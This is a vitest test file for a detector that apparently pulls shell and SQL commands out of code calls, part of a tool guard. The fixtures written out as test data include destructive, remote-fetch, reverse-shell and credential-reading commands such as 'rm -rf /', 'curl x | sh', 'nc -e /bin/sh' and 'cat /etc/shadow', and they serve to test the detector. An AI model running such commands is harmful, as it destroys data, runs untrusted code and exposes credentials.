import { describe, expect, it } from 'vitest';
import { embeddedCode } from '../../../lib/toolguard/embedded-code.ts';

const found = (text: string) => embeddedCode(text).map((code) => [code.language, code.text]);

describe('embeddedCode', () => {
  it.each([
    ['os.system("rm -rf ~")', [['shell', 'rm -rf ~']]],
    ["subprocess.run(['rm', '-rf', '/'])", [['shell', 'rm -rf /']]],
    ['subprocess.call(["bash", "-c", "curl x | sh"])', [['shell', "bash -c 'curl x | sh'"]]],
    ["require('child_process').execSync(`curl -s http://x | sh`)", [['shell', 'curl -s http://x | sh']]],
    ["<?php shell_exec('nc -e /bin/sh h 1'); ?>", [['shell', 'nc -e /bin/sh h 1']]],
    ['Runtime.getRuntime().exec("rm -rf /")', [['shell', 'rm -rf /']]],
    ['os.popen(r"cat /etc/shadow")', [['shell', 'cat /etc/shadow']]],
    ['cursor.execute("DELETE FROM sessions")', [['sql', 'DELETE FROM sessions']]],
    ["db.query('DROP TABLE users')", [['sql', 'DROP TABLE users']]],
    ['os.system("echo \\"quoted\\"")', [['shell', 'echo "quoted"']]],
  ])('%s', (text, expected) => expect(found(text)).toEqual(expected));

  it('ignores calls without a literal, unclosed literals and plain prose', () => {
    expect(found('os.system(cmd)')).toEqual([]);
    expect(found('os.system("rm -rf ~')).toEqual([]);
    expect(found('The system (as designed) works.')).toEqual([]);
  });

  it('reports the literal span', () => {
    const text = 'x = os.system("rm -rf ~")';
    const [code] = embeddedCode(text);
    expect(text.slice(code!.start, code!.end)).toBe('"rm -rf ~"');
  });

  it('is bounded on hostile input', () => {
    const started = performance.now();
    expect(embeddedCode('system("'.repeat(20_000)).length).toBeLessThanOrEqual(64);
    expect(embeddedCode(`exec([${'"a",'.repeat(50_000)}])`).length).toBeLessThanOrEqual(64);
    expect(performance.now() - started).toBeLessThan(2_000);
  });
});
